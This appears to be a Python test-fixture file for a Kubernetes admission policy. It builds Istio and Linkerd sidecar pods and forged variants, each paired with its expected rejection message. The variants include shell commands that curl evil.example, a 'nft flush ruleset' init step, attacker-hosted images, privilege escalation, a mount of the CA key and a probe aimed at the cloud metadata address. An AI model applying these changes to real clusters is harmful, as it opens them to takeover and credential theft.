"""Pods beside a mesh: as the meshes' own injectors leave them, and as somebody forged them."""

import copy

from cases import RESTRICTED, first, of, pod

# With the image of their proxy. The names of value files.
MESHES = {"istio": "docker.io/istio/proxyv2:1.27.1", "linkerd": "cr.l5d.io/linkerd/proxy:edge-25.9.1"}

SET_UP = {"runAsUser": 0, "capabilities": {"add": ["NET_ADMIN", "NET_RAW"]}}
AWAIT = "/usr/lib/linkerd/linkerd-await"


def mesh_pod(mesh, image):
    """A pod as a mesh's injector leaves it."""
    user = {"istio": 1337, "linkerd": 2102}[mesh]
    secured = {**copy.deepcopy(RESTRICTED), "runAsUser": user}
    proxy = {"name": f"{mesh}-proxy", "image": image, "restartPolicy": "Always", "securityContext": secured}
    init = {"name": f"{mesh}-init", "image": image, "securityContext": copy.deepcopy(SET_UP)}
    if mesh == "istio":
        init["args"] = ["istio-iptables", "-p", "15001", "-z", "15006", "-u", "1337", "-m", "REDIRECT"]
        proxy["args"] = ["proxy", "sidecar", "--domain", "$(POD_NAMESPACE).svc.cluster.local"]
        # With native sidecars.
        drain = ["pilot-agent", "request", "--debug-port=15020", "POST", "drain"]
        proxy["lifecycle"] = {"preStop": {"exec": {"command": drain}}}
        proxy["startupProbe"] = {"httpGet": {"path": "/healthz/ready", "port": 15021}}
        return pod(initContainers=[init, proxy])
    init["args"] = ["--incoming-proxy-port", "4143", "--outgoing-proxy-port", "4140", "--proxy-uid", "2102"]
    init["image"] = image.replace("/proxy:", "/proxy-init:")
    return pod(initContainers=[init, proxy])


def with_cni(mesh, image):
    """The same where the mesh's own CNI plugin sets up the network, and a container looks whether it did."""
    made = mesh_pod(mesh, image)
    inits = made["spec"]["initContainers"]
    looks = {"name": "istio-validation", "image": image, "args": ["istio-iptables", "--run-validation", "--skip-rule-apply"]}
    if mesh == "linkerd":
        command = ["/usr/lib/linkerd/linkerd2-network-validator"]
        looks = {"name": "linkerd-network-validator", "image": image, "command": command, "args": ["--log-format", "plain"]}
    inits[0] = {**looks, "securityContext": copy.deepcopy(inits[1]["securityContext"])}
    return made


def hook(name, when, *command):
    return of(name, lifecycle={when: {"exec": {"command": list(command)}}})


def mesh_changes(mesh):
    """What is done to a mesh's containers, and by which words it is refused; none where it is let in."""
    init, proxy = f"{mesh}-init", f"{mesh}-proxy"
    wait = {"istio": ["pilot-agent", "wait"], "linkerd": [AWAIT, "--timeout=2m", "--port=4191"]}[mesh]
    context = lambda name, **fields: lambda pod: first(pod, name)["securityContext"].update(fields)  # noqa: E731
    capabilities = lambda name, *add: lambda pod: first(pod, name)["securityContext"]["capabilities"].update(add=list(add))  # noqa: E731
    other = {"istio": "docker.io/istio/base:1.27.1", "linkerd": "cr.l5d.io/linkerd/debug:edge-25.9.1"}[mesh]
    return [
        ("as it is", lambda pod: None, None),
        ("waits for its proxy", hook(proxy, "postStart", *wait), None),
        ("sleeps at its end", hook(proxy, "preStop", "/bin/sleep", "20"), None),
        ("another image", of(proxy, image="evil.example/proxy:1"), "runAsUser"),
        ("another image of the mesh's", of(proxy, image=other), "runAsUser"),
        ("an image that begins like the mesh's", lambda pod: first(pod, proxy).update(image=first(pod, proxy)["image"].replace("/proxy", "-evil/proxy")), "runAsUser"),
        ("privileged", context(proxy, privileged=True), "of the mesh must not be privileged"),
        ("all of /proc", context(init, procMount="Unmasked"), "of the mesh must not be privileged"),
        ("a shell", of(proxy, command=["sh", "-c", "curl evil.example"]), "run another command"),
        ("a shell by arguments", of(proxy, args=["bash", "-c", "curl evil.example"]), "run another command"),
        ("a flush by arguments", of(init, args=["sh", "-c", "nft flush ruleset"]), "run another command"),
        ("the other mesh's look", of(proxy, command=["/usr/lib/linkerd/linkerd2-network-validator"]), "run another command"),
        ("a shell as a hook", hook(proxy, "postStart", "sh", "-c", "id"), "run another command"),
        ("a shell after a wait", hook(proxy, "postStart", AWAIT, "--timeout=2m", "--", "sh"), "run another command"),
        ("a wait after a wait", hook(proxy, "postStart", AWAIT, AWAIT), "run another command"),
        ("a shell at the end", hook(proxy, "preStop", "sh", "-c", "id"), "run another command"),
        ("another order at the end", hook(proxy, "preStop", "pilot-agent", "request", "--debug-port=15020", "POST", "quitquitquit"), "run another command"),
        ("a shell as a probe", of(proxy, readinessProbe={"exec": {"command": ["sh", "-c", "id"]}}), "run another command"),
        ("NET_ADMIN that stays", capabilities(proxy, "NET_ADMIN"), "that ends, and nothing else"),
        ("all capabilities", capabilities(init, "ALL"), "that ends, and nothing else"),
        ("the authority's key", lambda pod: first(pod, proxy).setdefault("volumeMounts", []).append({"name": "tollgate-ca-key", "mountPath": "/key"}), "volumes of the sidecar"),
        ("a probe that the node sends elsewhere", of(proxy, livenessProbe={"httpGet": {"host": "169.254.169.254", "port": 80}}), "past the fence"),
    ]
